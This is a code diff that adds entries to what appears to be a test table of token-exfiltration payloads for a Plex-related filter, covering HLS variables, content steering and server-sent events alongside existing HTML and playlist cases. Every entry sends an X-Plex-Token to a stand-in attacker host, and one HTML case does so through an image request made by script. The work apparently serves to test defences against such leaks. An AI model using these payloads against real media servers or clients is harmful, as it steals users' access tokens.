@@ -56,6 +56,16 @@ ATTACKS: dict[str, tuple[str, str]] = {
     "long-json-string": (JSON, f'{{"thumb": "{EVIL}/{PAD}?X-Plex-Token={TOK}"}}'),
     "space-in-playlist-line": (M3U8, f"#EXTM3U\n#EXTINF:8,\n{EVIL}/ s.ts?X-Plex-Token={TOK}\n"),
     "space-in-ext-x-key": (M3U8, f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{EVIL}/ k?X-Plex-Token={TOK}"\n'),
+    "hls-variable": (
+        M3U8,
+        f'#EXTM3U\n#EXT-X-DEFINE:NAME="b",VALUE="{EVIL}/"\n#EXTINF:8,\n{{$b}}s.ts?X-Plex-Token={TOK}\n',
+    ),  # players substitute {$b} (HLS variables)
+    "hls-content-steering": (
+        M3U8,
+        f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8?X-Plex-Token={TOK}\n"
+        f'#EXT-X-CONTENT-STEERING:SERVER-URI="{EVIL}/steer"\n',
+    ),  # the steering server clones the pathway onto its own host, key and all
+    "sse-data-lines": ("text/event-stream", f"data: {EVIL}/x\ndata: ?X-Plex-Token={TOK}\n\n"),  # one event
     "html-base-href": (HTML, f'<base href="{EVIL}/"><a href="/x?X-Plex-Token={TOK}">x</a>'),
     "html-script": (HTML, f'<script>new Image().src = "{EVIL}/?" + "{TOK}"</script>'),
     "html-meta-refresh-space": (HTML, f'<meta http-equiv="refresh" content="0; url={EVIL}/ ?t={TOK}">'),
